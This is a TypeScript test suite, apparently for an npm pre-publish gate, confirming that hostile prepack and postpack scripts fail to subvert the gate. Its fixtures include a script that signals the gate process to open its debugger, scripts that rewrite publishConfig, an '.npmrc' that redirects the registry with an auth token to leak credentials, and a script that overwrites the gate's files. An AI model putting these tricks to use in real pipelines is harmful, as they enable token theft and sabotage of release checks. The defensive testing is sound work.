import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { cp, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { put, tarballBytes, temporaryFolder } from "../archive.ts";
import { plainEnvironment, writeProject } from "../project.ts";
import { startRegistry } from "../registry.ts";
import { runStep } from "./runner.ts";

const cli = join(import.meta.dirname, "../../dist/cli.js");
const map = JSON.stringify({ version: 3, sources: ["a.ts"], sourcesContent: ["x"], mappings: "AAAA" });

/** The committed command line on a folder. */
function check(folder: string, ...args: string[]): Promise<{ code: number | null; said: string }> {
  return checkWith(process.env, folder, ...args);
}

async function checkWith(env: NodeJS.ProcessEnv, folder: string, ...args: string[]) {
  const child = spawn(process.execPath, [cli, "check", ...args], { cwd: folder, env });
  let said = "";
  for (const stream of [child.stdout, child.stderr])
    stream.on("data", (chunk) => {
      said += chunk;
    });
  const [code] = await once(child, "close");
  return { code, said };
}

test("a pack script cannot open the debugger of the gate", {
  skip: process.platform === "win32",
}, async () => {
  await using folder = await temporaryFolder();
  await writeProject(folder.path, {
    "package.json": { name: "a", version: "1.0.0", main: "a.js", scripts: { prepack: "node usr1.cjs" } },
    "a.js": "",
    "a.js.map": map,
    "usr1.cjs": `
      const { execFileSync } = require("child_process");
      let pid = process.ppid;
      for (let up = 0; up < 4 && pid > 1; up++) {
        const line = execFileSync("ps", ["-o", "ppid=,args=", "-p", String(pid)], { encoding: "utf8" });
        if (line.includes("cli.js check")) { process.kill(pid, "SIGUSR1"); console.log("signal sent"); break; }
        pid = Number(line.trim().split(/s+/)[0]);
      }
      require("fs").writeFileSync("sent", String(pid));
      setTimeout(() => {}, 300);
    `,
  });
  const { code, said } = await check(folder.path);
  assert.equal(code, 1, said);
  assert.doesNotMatch(said, /Debugger listening/);
});

for (const [when, place] of [
  ["after packing", "in its folder (audience internal)"],
  ["before packing", "in its folder before the scripts ran (audience public)"],
] as const) {
  test(`a script that changes publishConfig ${when} cannot choose the policy that judges`, async () => {
    await using folder = await temporaryFolder();
    const edit =
      "const f='package.json',m=JSON.parse(require('fs').readFileSync(f));m.publishConfig={access:'restricted'};require('fs').writeFileSync(f,JSON.stringify(m))";
    const script = when === "after packing" ? "postpack" : "prepack";
    await writeProject(folder.path, {
      "package.json": {
        name: "a",
        version: "1.0.0",
        main: "a.js",
        scripts: { [script]: `node -e "${edit}"` },
      },
      "a.js": "",
      "a.js.map": map,
      ".github/lastgate.yml":
        'version: 1\naudiences: { internal: { rules: { source-map: { level: off, reason: "ours" } } } }\n',
    });
    const { code, said } = await check(folder.path);
    assert.equal(code, 2, said);
    const asked = when === "after packing" ? "public" : "internal";
    assert.ok(said.includes(`asks for another policy (audience ${asked}) than the one ${place}`), said);
  });
}

test("a limit on growth is never passed over in silence for a ready tarball", async () => {
  await using folder = await temporaryFolder();
  await writeProject(folder.path, { ".github/lastgate.yml": "version: 1\nlimits: { growth: 1% }\n" });
  await writeFile(join(folder.path, "a.tgz"), await tarballBytes({ "a.js": "" }, { main: "a.js" }));
  const { code, said } = await check(folder.path, "a.tgz", "--baseline", "none");
  assert.equal(code, 0, said);
  assert.match(said, /`?limits\.growth`? was not judged/);
});

test("a script that shows npm another registry neither hides the release nor gets its credentials", async () => {
  await using registry = await startRegistry();
  await using folder = await temporaryFolder();
  const asked: string[] = [];
  const other = createServer((incoming, outgoing) => {
    asked.push(`${incoming.url} ${incoming.headers.authorization}`);
    outgoing.writeHead(404, { "content-type": "application/json" }).end("{}");
  });
  other.listen(0, "127.0.0.1");
  await once(other, "listening");
  const address = other.address();
  const port = typeof address === "object" ? address?.port : null;
  const { npm_config_registry: _, ...settings } = registry.env;
  const env = { ...plainEnvironment(folder.path), ...settings, SECRET: "s3cret" };
  try {
    const upload = await put(
      folder.path,
      "a.tgz",
      await tarballBytes({ "a.js": "1" }, { name: "a", version: "1.0.0", main: "a.js" }),
    );
    const published = spawn("npm", ["publish", upload, `--registry=${registry.url}`], {
      cwd: folder.path,
      env,
      stdio: "ignore",
    });
    assert.deepEqual(await once(published, "close"), [0, null]);

    const evil = `registry=http://127.0.0.1:${port}/\n//127.0.0.1:${port}/:_authToken=\${SECRET}\n`;
    const script = `node -e "require('fs').writeFileSync('.npmrc', ${JSON.stringify(evil).replaceAll('"', "'")})"`;
    const manifest = { name: "a", version: "2.0.0", main: "a.js", files: ["a.js"] };
    await writeProject(folder.path, {
      ".npmrc": `registry=${registry.url}\n`,
      ".github/lastgate.yml": "version: 1\nlimits: { growth: 10% }\n",
      "package.json": { ...manifest, scripts: { prepack: script } },
      "a.js": "1".repeat(5000),
    });
    const byManager = await checkWith(env, folder.path);
    assert.equal(byManager.code, 1, byManager.said);
    assert.match(byManager.said, /size-limit/);

    await writeProject(folder.path, {
      ".npmrc": `registry=${registry.url}\n`,
      "package.json": manifest,
    });
    const byCommand = await checkWith(
      env,
      folder.path,
      "--pack-command",
      `printf 'registry=http://127.0.0.1:${port}/\n' > .npmrc; npm pack --pack-destination {destination}`,
    );
    assert.equal(byCommand.code, 1, byCommand.said);
    assert.match(byCommand.said, /size-limit/);
    assert.deepEqual(asked, []);
  } finally {
    other.close();
    other.closeAllConnections();
  }
});

test("a script that rewrites the gate's own files changes nothing of this run", async () => {
  await using folder = await temporaryFolder();
  const gate = join(folder.path, "gate");
  for (const part of ["dist", "presets", "package.json"])
    await cp(join(import.meta.dirname, "../..", part), join(gate, part), { recursive: true });
  const rewrite = `
    const fs = require("fs"), path = require("path");
    for (const part of ["dist", "presets"])
      for (const name of fs.readdirSync(path.join(process.env.GATE, part)))
        fs.writeFileSync(path.join(process.env.GATE, part, name), "process.exit(0);");
  `;
  const workspace = join(folder.path, "work");
  await writeProject(workspace, {
    ".github/lastgate.yml":
      "version: 1\nrules: { forbidden-text: { texts: [{ pattern: a+b, reason: r }] } }\n",
    "package.json": {
      name: "root",
      private: true,
      workspaces: ["packages/*"],
    },
    "packages/a/package.json": {
      name: "a",
      version: "1.0.0",
      main: "a.js",
      scripts: { prepack: "node rewrite.cjs" },
    },
    "packages/a/a.js": "",
    "packages/a/a.js.map": map,
    "packages/a/rewrite.cjs": rewrite,
    "packages/b/package.json": { name: "b", version: "1.0.0", main: "b.js" },
    "packages/b/b.js": "aab",
  });
  await using step = await runStep({
    script: join(gate, "dist/action.js"),
    workspace,
    env: { GATE: gate },
  });
  assert.equal(step.exitCode, 1, step.raw);
  assert.equal(step.outputs.get("verdict"), "stopped");
  assert.match(step.raw, /source-map/);
  assert.match(step.raw, /forbidden-text/);
  assert.equal(await readFile(join(gate, "dist/engine.js"), "utf8"), "process.exit(0);");
});
